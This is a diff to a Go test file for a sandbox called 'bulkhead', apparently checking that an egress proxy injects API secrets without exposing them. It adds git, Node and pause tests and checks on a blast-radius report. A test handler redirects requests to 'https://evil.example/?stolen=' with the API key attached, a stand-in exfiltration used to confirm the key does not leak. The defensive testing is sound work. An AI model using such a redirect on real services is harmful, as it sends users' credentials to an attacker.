@@ -21,6 +21,7 @@ import (
 	"time"
 
 	"bulkhead/client"
+	"bulkhead/internal/addressing"
 	"bulkhead/internal/daemon"
 	"bulkhead/internal/egress/authority"
 	"bulkhead/test/harness"
@@ -39,6 +40,7 @@ const (
 type services struct {
 	*httptest.Server
 	got chan *http.Request
+	git http.Handler
 }
 
 // newServices returns it and what it is verified by.
@@ -54,7 +56,7 @@ func newServices(t *testing.T) (*services, *x509.CertPool) {
 	}
 	roots := x509.NewCertPool()
 	roots.AppendCertsFromPEM(world.Root())
-	s := &services{got: make(chan *http.Request, 100)}
+	s := &services{got: make(chan *http.Request, 100), git: repository(t)}
 	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.answer))
 	s.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return world.Leaf(h.ServerName) }}
 	s.EnableHTTP2 = true
@@ -67,6 +69,10 @@ func newServices(t *testing.T) (*services, *x509.CertPool) {
 // answer says back whatever it is told.
 func (s *services) answer(w http.ResponseWriter, r *http.Request) {
 	s.got <- r
+	if strings.HasPrefix(r.URL.Path, "/repo.git/") {
+		s.git.ServeHTTP(w, r)
+		return
+	}
 	if r.URL.Path == "/moved" {
 		http.Redirect(w, r, "https://evil.example/?stolen="+r.Header.Get("X-Api-Key"), http.StatusFound)
 		return
@@ -108,9 +114,20 @@ func TestSecrets(t *testing.T) {
 	if r := h.CLI("egress", "allow", b.Name, "api.example", "--secret", "other", "--env", "X"); r.Code == 0 || !strings.Contains(r.Stderr, "no secret is called") {
 		t.Errorf("a rule with a secret that there is not: %+v", r)
 	}
+	// Debian's package of Java has such a hook: it is told which files are new.
+	b.Sh(`printf '#!/bin/sh\ncat >> /root/hooked\n' > /etc/ca-certificates/update.d/java; chmod +x /etc/ca-certificates/update.d/java`)
 	h.Must("egress", "allow", b.Name, "api.example", "--secret", "svc", "--header", "x-api-key: Key {}")
+	b.Sh("until grep -q '^+.*/bulkhead' /root/hooked; do sleep 0.1; done")
 	h.Must("egress", "allow", b.Name, "code.example", "--secret", "code", "--env", "CODE_TOKEN")
-	t.Run("programs", func(t *testing.T) { testPrograms(t, s, b) })
+	t.Run("programs", func(t *testing.T) { testPrograms(t, s, h, b) })
+	t.Run("git", func(t *testing.T) { testGit(t, s, b) })
+	t.Run("after a pause", func(t *testing.T) {
+		h.Must("pause", b.Name)
+		if got := b.Sh("curl -sS https://api.example/v1"); !strings.HasPrefix(got, "hello Key ****") {
+			t.Errorf("curl gets %s", got)
+		}
+		s.last()
+	})
 	t.Run("placeholders", func(t *testing.T) { testPlaceholders(t, s, h, b) })
 	t.Run("the operator sees", func(t *testing.T) { testSecretsSeen(t, h, b) })
 	t.Run("nothing is left", func(t *testing.T) { testNothingLeft(t, h, b) })
@@ -121,7 +138,7 @@ func TestSecrets(t *testing.T) {
 }
 
 // testPrograms has programs of all kinds trust the sandbox's authority.
-func testPrograms(t *testing.T, s *services, b *harness.Box) {
+func testPrograms(t *testing.T, s *services, h *harness.Host, b *harness.Box) {
 	const python = `python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/v1").read().decode())'`
 	for name, command := range map[string]string{
 		"curl":                         "curl -sS https://api.example/v1",
@@ -142,6 +159,13 @@ func testPrograms(t *testing.T, s *services, b *harness.Box) {
 			t.Errorf("%s: the host gets %q", name, r.Header.Get("X-Api-Key"))
 		}
 	}
+	t.Run("Node", func(t *testing.T) {
+		h.Must("cp", program(t, "node"), b.Name+":/usr/local/bin/node")
+		if got := b.Sh(`node -e 'fetch("https://api.example/v1").then(r => r.text()).then(console.log)'`); !strings.HasPrefix(got, "hello Key ****") {
+			t.Errorf("it gets %s", got)
+		}
+		s.last()
+	})
 	got := b.Sh("curl -sS -o /dev/null -w '%{redirect_url}' https://api.example/moved")
 	s.last()
 	if strings.Contains(got, keyValue) || !strings.Contains(got, "stolen=") {
@@ -189,6 +213,13 @@ func testSecretsSeen(t *testing.T, h *harness.Host, b *harness.Box) {
 	h.JSON(&r, "blast-radius", b.Name)
 	if got := strings.Join(r.Secrets, "; "); got != "code as $CODE_TOKEN at https://code.example; svc as header X-Api-Key at https://api.example" {
 		t.Errorf("blast-radius says %s", got)
+	}
+	if got := strings.Join(r.Link["devices"], "; "); got != "lo; tap0 "+addressing.GatewayMAC || len(r.Link["rules"]) < 15 ||
+		len(r.Link["sockets"]) != 3 || len(r.Link["routes"]) != 1 || len(r.Devices) != 6 || len(r.Holes) > 0 {
+		t.Errorf("blast-radius says %+v", r)
+	}
+	if page := h.Must("blast-radius", b.Name); strings.Count(page, "\n") > 66 || !strings.Contains(page, "rules   ") { // lines of a printed page
+		t.Errorf("the page is %s", page)
 	}
 	for _, kind := range []string{"secret.set", "secret.used", "secret.echoed", "secret.stale"} {
 		if h.Must("events", "--kind", kind) == "" {
